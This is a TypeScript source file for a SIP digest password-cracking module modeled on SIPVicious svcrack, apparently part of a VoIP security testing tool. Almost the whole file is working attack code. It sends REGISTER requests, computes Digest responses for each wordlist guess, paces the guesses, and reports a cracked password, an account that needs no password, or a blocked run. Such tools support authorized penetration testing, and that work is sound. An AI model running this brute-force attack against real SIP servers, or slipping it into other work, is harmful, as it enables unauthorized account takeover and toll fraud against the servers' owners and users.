/**
 * crack: digest password guessing against one user, like SIPVicious svcrack. Per guess: a
 * REGISTER without credentials to get a fresh challenge (401 WWW-Authenticate or 407
 * Proxy-Authenticate), then the same REGISTER again with the Digest response computed for
 * the guess (RFC 3261 22.4, MD5 or SHA-256 as the challenge asks, qop=auth with a client
 * nonce and nonce count). A 2xx means the guess was right. Guesses are serial (one exchange
 * at a time), paced by --rate; three silent exchanges in a row end the run (blocked).
 */
import type { SipResponse } from '../../sip/message.ts';
import { achievedRate, type CommonOptions, sourcesOf } from '../context.ts';
import { authorizationValue, type DigestChallenge, newCnonce, parseChallenge } from '../digest.ts';
import { pace } from '../pacer.ts';
import { Random, SCANNER_USER_AGENT } from '../random.ts';
import type { AttackReport } from '../report.ts';
import { headerValue, MAGIC_COOKIE, requestText, sipUri } from '../sip-text.ts';
import { Tally } from '../tally.ts';
import { formatEndpoint } from '../target.ts';
import { SipEndpoint } from '../ua/endpoint.ts';

export interface CrackOptions extends CommonOptions {
  readonly user: string;
  readonly words: readonly string[];
  /** Per-exchange answer timeout, ms; default 2000. */
  readonly exchangeTimeoutMs?: number;
}

/** Silent exchanges in a row that end the run. */
const SILENT_LIMIT = 3;

type GuessResult =
  | { readonly kind: 'found'; readonly status: number }
  | { readonly kind: 'wrong'; readonly status: number }
  | { readonly kind: 'open'; readonly status: number }
  | { readonly kind: 'refused'; readonly status: number }
  | { readonly kind: 'silent' };

export async function runCrack(options: CrackOptions): Promise<AttackReport> {
  const { target, limits, user } = options;
  const random = new Random(options.seed);
  const runId = random.token(8);
  const words = options.words.slice(0, limits.count);
  const endpoint = await SipEndpoint.bind(sourcesOf(options).at(0));
  // Two requests per guess: the tally counts exchanges (one per guess), by final answer.
  const tally = new Tally(Math.max(1, words.length));
  const timeoutMs = options.exchangeTimeoutMs ?? 2000;
  const requestUri = sipUri(undefined, target.address);
  let algorithm: string | undefined;
  let realm: string | undefined;
  let found: string | undefined;
  let open = false;
  let refused: number | undefined;
  let silentInARow = 0;
  let lastAnswerAt = 0;
  let exchanges = 0;
  let blockedAfter: { messages: number; seconds: number } | undefined;

  const exchange = async (text: string, branch: string): Promise<SipResponse | undefined> => {
    exchanges++;
    const result = await endpoint.request(text, target, { branch, method: 'REGISTER', timeoutMs });
    return result.final;
  };

  const register = (
    callId: string,
    fromTag: string,
    cseq: number,
    branch: string,
    authorization?: string,
  ): string =>
    requestText({
      method: 'REGISTER',
      requestUri,
      via: { host: endpoint.address, port: endpoint.port, branch },
      from: sipUri(user, target.address),
      fromTag,
      to: sipUri(user, target.address),
      callId,
      cseq,
      contact: sipUri(user, endpoint.address, endpoint.port),
      expires: 60,
      userAgent: options.userAgent ?? SCANNER_USER_AGENT,
      ...(authorization === undefined ? {} : { extra: [authorization] }),
    });

  const guess = async (index: number): Promise<GuessResult> => {
    const callId = `${random.token(20)}@${endpoint.address}`;
    const fromTag = random.token(10);
    const first = await exchange(
      register(callId, fromTag, 1, `${MAGIC_COOKIE}${runId}-${index}a`),
      `${MAGIC_COOKIE}${runId}-${index}a`,
    );
    if (!first) return { kind: 'silent' };
    if (first.status >= 200 && first.status < 300) return { kind: 'open', status: first.status };
    const proxy = first.status === 407;
    const header = headerValue(first, proxy ? 'proxy-authenticate' : 'www-authenticate');
    const challenge: DigestChallenge | undefined = header === undefined ? undefined : parseChallenge(header);
    if ((first.status !== 401 && !proxy) || !challenge) return { kind: 'refused', status: first.status };
    algorithm = challenge.algorithm;
    realm = challenge.realm;
    const credentials = authorizationValue(challenge, {
      username: user,
      password: words[index]!,
      method: 'REGISTER',
      uri: requestUri,
      cnonce: newCnonce(),
      nc: 1,
    });
    const branch = `${MAGIC_COOKIE}${runId}-${index}b`;
    const name = proxy ? 'Proxy-Authorization' : 'Authorization';
    const second = await exchange(register(callId, fromTag, 2, branch, `${name}: ${credentials}`), branch);
    if (!second) return { kind: 'silent' };
    if (second.status >= 200 && second.status < 300) return { kind: 'found', status: second.status };
    return { kind: 'wrong', status: second.status };
  };

  const started = performance.now();
  const startedAt = new Date().toISOString();
  let guesses = 0;
  try {
    const paced = await pace(
      { ...limits, count: words.length, batch: 1, ...(options.signal ? { signal: options.signal } : {}) },
      async (index) => {
        guesses = index + 1;
        tally.sentOne(index);
        const result = await guess(index);
        if (result.kind === 'silent') {
          silentInARow++;
          if (silentInARow >= SILENT_LIMIT) {
            if (lastAnswerAt > 0) {
              blockedAfter = {
                messages: index + 1 - silentInARow,
                seconds: Math.round((lastAnswerAt - started) / 10) / 100,
              };
            }
            return false;
          }
          return undefined;
        }
        silentInARow = 0;
        lastAnswerAt = performance.now();
        tally.answer(index, result.status);
        if (result.kind === 'found') {
          found = words[index];
          return false;
        }
        if (result.kind === 'open') {
          open = true;
          return false;
        }
        if (result.kind === 'refused') {
          refused = result.status;
          return false;
        }
        return undefined;
      },
    );
    const summary = tally.summary({ minTrailingSilence: SILENT_LIMIT });
    const answers = { ...summary, ...(blockedAfter ? { blockedAfter } : {}) };
    let succeeded = false;
    let applicable = true;
    let outcome: string;
    if (found !== undefined) {
      succeeded = true;
      outcome = `password of ${user} found after ${guesses} guesses`;
    } else if (open) {
      succeeded = true;
      outcome = `${user} registers without a password`;
    } else if (blockedAfter) {
      outcome = `the target went silent after ${blockedAfter.messages} guesses (${blockedAfter.seconds} s)`;
    } else if (answers.answered === 0) {
      outcome = 'no answer at all: the target dropped every request, or nothing listens there';
    } else if (refused !== undefined) {
      applicable = refused !== 404 && refused !== 604;
      outcome = `the target answers ${refused} without a challenge: ${applicable ? 'refused' : `it does not know ${user}`}`;
    } else {
      outcome = `not found: none of the ${guesses} passwords tried was accepted`;
    }
    return {
      kind: 'crack',
      target: formatEndpoint(target),
      transport: 'udp',
      startedAt,
      seconds: Math.round((performance.now() - started) / 10) / 100,
      unit: 'guess',
      rate: { asked: limits.rate, achieved: achievedRate(guesses, paced.elapsedMs) },
      sources: { count: 1, first: endpoint.address, last: endpoint.address },
      sendErrors: endpoint.sendErrors,
      answers: { ...answers, sent: guesses, silent: guesses - answers.answered },
      succeeded,
      applicable,
      outcome,
      details: {
        user,
        found: found ?? null,
        guesses,
        requests: exchanges,
        algorithm: algorithm ?? null,
        realm: realm ?? null,
        words: words.length,
      },
      notes: [
        `user      ${user}${realm === undefined ? '' : ` realm "${realm}"`}${algorithm === undefined ? '' : ` ${algorithm}`}`,
        `password  ${found === undefined ? (open ? 'none needed' : `not found in ${guesses} guesses`) : `"${found}"`}`,
      ],
    };
  } finally {
    endpoint.close();
  }
}
